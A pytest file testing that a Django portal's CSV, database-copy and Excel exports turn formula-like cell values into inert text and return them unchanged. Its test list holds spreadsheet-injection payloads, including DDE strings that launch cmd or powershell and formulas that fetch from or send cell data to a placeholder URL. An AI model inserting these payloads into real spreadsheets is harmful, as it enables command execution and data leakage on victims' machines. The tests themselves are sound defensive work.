"""What people may type as a formula stays text in every spreadsheet, and comes back as it was."""

import csv
import io
import re
import sys

import openpyxl
import pytest
from django.db import connection
from rustpy_xlsxwriter import write_worksheets

from district_portal.ui.spreadsheets import (
    AS_TEXT,
    COPIED,
    FORMULA,
    CopiedLines,
    csv_file,
    guarded,
    write_csv,
)

FORMULAS = [
    "=1+1", "==1", "=-1", "= 1", '="a"', "=A1", "=$A$1", "=A1:B2", "={1,2}", "=TRUE", "=#REF!",
    "=SUM(1)", "=sum(A:A)", '=HYPERLINK("http://x")', '=HYPERLINK("http://x?"&A1,"here")',
    '=WEBSERVICE("http://x")', '=IMPORTXML("http://x","//a")', '=IMPORTDATA("http://x")',
    '=IMPORTRANGE("http://x","A1")', '=IMAGE("http://x")', '=INDIRECT("A1")', "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell'!_xlbgnm.A1", '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\x'!''",
    "=rundll32|'URL.dll,OpenURL x'!A", '=CALL("x","y")', "=EXEC(1)", "=1;=2", "=1,=2", '=1"',
    "=1\n=2", "=1\r\n=2", "+1", "+1+cmd|' /C calc'!A0", "+A1", "+-1", "++1", "+", "-1", "-2+3+cmd",
    "-A1", "--1", "-", "-1,5", "@SUM(1)", "@A1", "@", "@=1", "\t=1", "\t1", "\r=1", "\n=1",
    "\t\t@x", "\r\n+1", " =1", "  -1", "\u00a0=1", "\u2003@x", "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff20SUM(1)", "\u22121", "'=1", "''=1", "'@x", "' =1", "'\t1", "=\u4e00", "=\U0001f600",
]  # fmt: skip
HARMLESS = ["", "Ann", "O'Neil", "'tis", "1", "1-2", "a=b", "x@y.org", "a,b", 'say "so"', "a;b"]


def test_there_are_enough_of_them():
    assert len(set(FORMULAS)) == len(FORMULAS) >= 60


def test_each_is_text_in_csv_and_comes_back():
    content = csv_file(["a", "b"], [[each, "x"] for each in FORMULAS + HARMLESS])
    assert content.startswith(b"\xef\xbb\xbfa,b\r\n")
    text = content.decode("utf-8-sig")
    _, *lines = csv.reader(io.StringIO(text, newline=""))
    cells = [line[0] for line in lines]
    assert all(cell.startswith("'") for cell in cells[: len(FORMULAS)])
    assert cells[len(FORMULAS) :] == HARMLESS
    assert [AS_TEXT.sub("", cell) for cell in cells] == FORMULAS + HARMLESS


@pytest.mark.django_db
def test_copied_by_the_database_it_is_the_same_file():
    out = io.BytesIO()
    write_csv(out, ["a", "b"], [])
    lines = CopiedLines(out)
    with connection.cursor() as cursor:
        rows = cursor.mogrify(
            "SELECT * FROM unnest(%s, %s) AS one(a, b)",
            [FORMULAS + HARMLESS, [None, *(HARMLESS + FORMULAS)[1:]]],
        ).decode()
        cursor.copy_expert(f"COPY ({rows}) TO STDOUT {COPIED}", lines)
    both = zip(FORMULAS + HARMLESS, ["", *(HARMLESS + FORMULAS)[1:]], strict=True)
    assert read(out.getvalue()) == read(csv_file(["a", "b"], both))
    assert lines.count == len(FORMULAS + HARMLESS)


def read(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_whatever_begins_like_a_formula_is_seen_in_the_bytes_of_a_copied_line():
    """Every character that may stand before a sign, or is one."""
    telling = [
        chr(n) for n in range(sys.maxunicode + 1) if re.match(r"\s|[=+\-@＝＋－＠−]", chr(n))
    ]
    assert len(telling) > 30
    for character in telling:
        for cell in (f"{character}=1", f"''{character}=1"):
            assert FORMULA.match(cell)
            out = io.BytesIO()
            CopiedLines(out).write(f'"Ann","{cell}","x, y"\n'.encode())
            assert read(out.getvalue()) == [["Ann", f"'{cell}", "x, y"]]


def test_a_line_without_one_goes_on_as_it_came():
    out = io.BytesIO()
    CopiedLines(out).write('"Åse, =1 Ann","a,""=1",,"2026-01-02"\n'.encode())
    assert out.getvalue() == '"Åse, =1 Ann","a,""=1",,"2026-01-02"\r\n'.encode()


@pytest.mark.parametrize("value", [1, -1, -2.5, None, True])
def test_a_number_is_no_text(value):
    assert guarded(value) is value


def test_each_is_text_in_excel_and_comes_back():
    out = io.BytesIO()
    write_worksheets([("A", ({"a": each} for each in FORMULAS + HARMLESS[1:]))], out)
    _, *lines = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["A"].iter_rows()
    cells = [line[0] for line in lines]
    assert {cell.data_type for cell in cells} == {"s"}
    found = [cell.value.replace("_x000D_", "\r") for cell in cells]
    assert found == FORMULAS + HARMLESS[1:]
